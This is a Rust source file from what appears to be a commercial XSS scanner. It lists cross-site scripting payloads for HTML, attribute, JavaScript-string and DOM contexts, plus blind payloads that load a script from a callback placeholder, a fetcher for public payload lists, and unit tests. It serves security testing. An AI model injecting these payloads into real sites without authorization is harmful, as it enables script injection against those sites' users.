// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - XSS Payload Providers
 * Context-keyed payload lists plus remote payload fetchers
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use reqwest::Client;
use tracing::{info, warn};

use crate::config::RemotePayloadSource;

/// Sentinel replaced with the normalized blind-callback address.
pub const CALLBACK_SENTINEL: &str = "CALLBACKURL";

const PAYLOADBOX_URL: &str =
    "https://raw.githubusercontent.com/payloadbox/xss-payload-list/master/Intruder/xss-payload-list.txt";
const PORTSWIGGER_URL: &str =
    "https://portswigger.net/web-security/cross-site-scripting/cheat-sheet/payloads.json";

fn owned(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

/// General-purpose payloads fanned over every reflecting parameter.
/// Element payloads carry the `kettu` marker class for the DOM verdict.
pub fn common_payloads() -> Vec<String> {
    owned(&[
        "\"><svg class=kettu onload=alert(1)>",
        "'><svg class=kettu onload=alert(1)>",
        "<svg class=kettu onload=alert(1)>",
        "\"><img class=kettu src=x onerror=alert(1)>",
        "<img class=kettu src=x onerror=alert(1)>",
        "\"><script class=kettu>alert(1)</script>",
        "<script class=kettu>alert(1)</script>",
        "'\"><iframe class=kettu srcdoc=\"<script>alert(1)</script>\">",
        "<details class=kettu open ontoggle=alert(1)>",
        "\"><details class=kettu open ontoggle=alert(1)>",
        "<audio class=kettu src onerror=alert(1)>",
        "<input class=kettu autofocus onfocus=alert(1)>",
        "\" onmouseover=alert(1) class=kettu x=\"",
        "' onmouseover=alert(1) class=kettu x='",
        "javascript:alert(1)",
    ])
}

/// Payloads for plain HTML body contexts.
pub fn html_payloads(_context: &str) -> Vec<String> {
    owned(&[
        "<svg class=kettu onload=alert(1)>",
        "<img class=kettu src=x onerror=alert(1)>",
        "<script class=kettu>alert(1)</script>",
        "<details class=kettu open ontoggle=alert(1)>",
        "<iframe class=kettu srcdoc=\"<script>alert(1)</script>\">",
        "<audio class=kettu src onerror=alert(1)>",
    ])
}

/// Payloads for attribute contexts; the breaking quote follows the
/// context tag (`double` / `single`), unquoted variants otherwise.
pub fn attr_payloads(context: &str) -> Vec<String> {
    if context.contains("double") {
        owned(&[
            "\" onmouseover=alert(1) class=kettu x=\"",
            "\" autofocus onfocus=alert(1) class=kettu x=\"",
            "\"><svg class=kettu onload=alert(1)>",
        ])
    } else if context.contains("single") {
        owned(&[
            "' onmouseover=alert(1) class=kettu x='",
            "' autofocus onfocus=alert(1) class=kettu x='",
            "'><svg class=kettu onload=alert(1)>",
        ])
    } else {
        owned(&[
            " onmouseover=alert(1) class=kettu ",
            " autofocus onfocus=alert(1) class=kettu ",
            "\" onmouseover=alert(1) class=kettu x=\"",
            "' onmouseover=alert(1) class=kettu x='",
        ])
    }
}

/// Payloads that stay inside a JavaScript string and break out of it.
pub fn in_js_payloads(context: &str) -> Vec<String> {
    if context.contains("double") {
        owned(&["\"-alert(1)-\"", "\";alert(1);//", "\"+alert(1)+\""])
    } else if context.contains("single") {
        owned(&["'-alert(1)-'", "';alert(1);//", "'+alert(1)+'"])
    } else {
        owned(&["${alert(1)}", "-alert(1)-", ";alert(1);//"])
    }
}

/// Payloads that abandon the script block entirely; used when the
/// enclosing quote never reflected.
pub fn in_js_break_script_payloads(_context: &str) -> Vec<String> {
    owned(&[
        "</script><svg class=kettu onload=alert(1)>",
        "</script><script class=kettu>alert(1)</script>",
        "</script><img class=kettu src=x onerror=alert(1)>",
    ])
}

/// DOM-sink payloads for the headless verifier (standard set).
pub fn dom_xss_payloads() -> Vec<String> {
    owned(&[
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "'><svg onload=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>",
    ])
}

/// Extended DOM-sink payloads for `--deep-domxss`.
pub fn deep_dom_xss_payloads() -> Vec<String> {
    let mut payloads = dom_xss_payloads();
    payloads.extend(owned(&[
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "'\"()&%<acx><script>alert(1)</script>",
        "java%0ascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "#<img src=x onerror=alert(1)>",
    ]));
    payloads
}

/// Blind payloads; `CALLBACKURL` is substituted by the matrix builder.
pub fn blind_payloads() -> Vec<String> {
    owned(&[
        "\"><script src=CALLBACKURL></script>",
        "'><script src=CALLBACKURL></script>",
        "<script src=CALLBACKURL></script>",
        "\"><input onfocus=import('CALLBACKURL') autofocus x=\"",
        "<img src=x onerror=this.src='CALLBACKURL'>",
    ])
}

/// Fetch a remote payload list. A fetch failure logs a warning and yields
/// an empty list; the scan continues without it.
pub async fn remote_payloads(client: &Client, source: RemotePayloadSource) -> Vec<String> {
    let url = match source {
        RemotePayloadSource::Portswigger => PORTSWIGGER_URL,
        RemotePayloadSource::Payloadbox => PAYLOADBOX_URL,
    };

    let body = match client.get(url).send().await {
        Ok(response) => response.text().await.unwrap_or_default(),
        Err(e) => {
            warn!("{} payload load fail: {}", source.name(), e);
            return Vec::new();
        }
    };

    let payloads = parse_payload_listing(&body);
    if payloads.is_empty() {
        warn!("{} payload load fail: empty listing", source.name());
    } else {
        info!(
            "Loaded '{}' payloads [{}L / {}B]",
            source.name(),
            payloads.len(),
            body.len()
        );
    }
    payloads
}

/// Accept either a JSON listing (array of strings, or objects carrying a
/// `payload` field) or a plain newline list.
fn parse_payload_listing(body: &str) -> Vec<String> {
    if let Ok(value) = serde_json::from_str::<serde_json::Value>(body) {
        if let Some(entries) = value.as_array() {
            return entries
                .iter()
                .filter_map(|e| {
                    e.as_str()
                        .map(str::to_string)
                        .or_else(|| e.get("payload").and_then(|p| p.as_str()).map(str::to_string))
                })
                .filter(|p| !p.is_empty())
                .collect();
        }
    }
    body.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(str::to_string)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_providers_are_deterministic() {
        assert_eq!(common_payloads(), common_payloads());
        assert_eq!(dom_xss_payloads(), dom_xss_payloads());
    }

    #[test]
    fn test_attr_payloads_follow_quote_context() {
        assert!(attr_payloads("inATTR-double").iter().all(|p| p.contains('"')));
        assert!(attr_payloads("inATTR-single").iter().all(|p| p.contains('\'')));
    }

    #[test]
    fn test_blind_payloads_carry_sentinel() {
        assert!(blind_payloads().iter().all(|p| p.contains(CALLBACK_SENTINEL)));
    }

    #[test]
    fn test_deep_dom_extends_standard() {
        let standard = dom_xss_payloads();
        let deep = deep_dom_xss_payloads();
        assert!(deep.len() > standard.len());
        assert!(standard.iter().all(|p| deep.contains(p)));
    }

    #[test]
    fn test_parse_json_listing() {
        let parsed = parse_payload_listing(r#"["<svg>", {"payload": "<img>"}]"#);
        assert_eq!(parsed, vec!["<svg>".to_string(), "<img>".to_string()]);
    }

    #[test]
    fn test_parse_line_listing() {
        let parsed = parse_payload_listing("<svg onload=alert(1)>\n\n# comment\n<img>");
        assert_eq!(parsed.len(), 2);
    }
}
